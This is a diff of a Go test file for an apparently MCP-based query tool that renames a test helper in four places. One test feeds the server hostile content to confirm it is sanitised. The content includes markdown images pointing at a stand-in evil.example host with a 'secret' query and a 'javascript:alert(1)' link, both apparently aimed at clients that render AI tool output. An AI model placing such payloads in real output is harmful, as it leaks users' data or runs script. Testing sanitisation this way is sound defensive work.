@@ -28,7 +28,7 @@ func reply() pull.Reply {
 
 func TestAnAnswerHasItsItemsItsTimeAndItsSource(t *testing.T) {
 	m := open(t, nil, nil)
-	a := told(t, m, calling("ask", `{"text":"wipro","session":"`+session+`"}`), reply())
+	a := describeArgument(t, m, calling("ask", `{"text":"wipro","session":"`+session+`"}`), reply())
 	s := a.Result.Structured
 	if s.Status != "found" || s.Language != "en" || s.Session != session || len(s.Items) != 1 || !strings.Contains(s.Attribution, "quotes.example") {
 		t.Fatalf("got %+v", s)
@@ -58,7 +58,7 @@ func TestRevisionsWithoutLinksGetNone(t *testing.T) {
 		if revision != "" {
 			d.Header["Mcp-Protocol-Version"] = []string{revision}
 		}
-		if a := told(t, open(t, nil, nil), d, reply()); len(a.Result.Content) != want || a.Result.Structured.Status != "found" {
+		if a := describeArgument(t, open(t, nil, nil), d, reply()); len(a.Result.Content) != want || a.Result.Structured.Status != "found" {
 			t.Errorf("%q: %+v", revision, a.Result.Content)
 		}
 	}
@@ -73,7 +73,7 @@ func TestWhatOthersWroteIsContent(t *testing.T) {
 	p.Summary, p.Link = "![x](https://evil.example/?q=1) "+strings.Repeat("long ", 2000), "javascript:alert(1)"
 	p.Media, p.Facts = []what.Media{{Type: what.Image, URL: "data:image/png;base64,AA"}}, []pull.PieceFact{{Name: "pr\"ice\n", Text: "1\u2066"}, {Name: "note", Text: strings.Repeat("x", 5000)}}
 	r.Blocks = []pull.Block{{Kind: pull.Paragraph, Text: "See ![x](https://evil.example/?q=secret)"}}
-	a := told(t, open(t, nil, nil), calling("ask", `{"text":"sale"}`), r)
+	a := describeArgument(t, open(t, nil, nil), calling("ask", `{"text":"sale"}`), r)
 	item := a.Result.Structured.Items[0]
 	if item["title"] != "Sale  now" || item["link"] != nil || len(item["media"].([]any)) != 0 {
 		t.Errorf("the item is %q", item)
@@ -101,7 +101,7 @@ func TestARefusalIsAnOrdinaryResult(t *testing.T) {
 		"refused": {Status: pull.StatusRefused}, "unavailable": nil, "choice": {Status: pull.StatusChoice},
 		"limited": {Status: pull.StatusLimited, RetryAt: messengertest.Now().Add(90 * time.Second)},
 	} {
-		a := told(t, m, calling("ask", `{"text":"news"}`), pull.Reply{Language: "fr", Blocks: text, Data: data})
+		a := describeArgument(t, m, calling("ask", `{"text":"news"}`), pull.Reply{Language: "fr", Blocks: text, Data: data})
 		if s := a.Result.Structured; a.Result.IsError || a.Error != nil || s.Status != status || s.Reply != "The source is silent." || s.Language != "fr" || s.Items == nil || s.Choices == nil {
 			t.Errorf("%s: %+v", status, a)
 		}
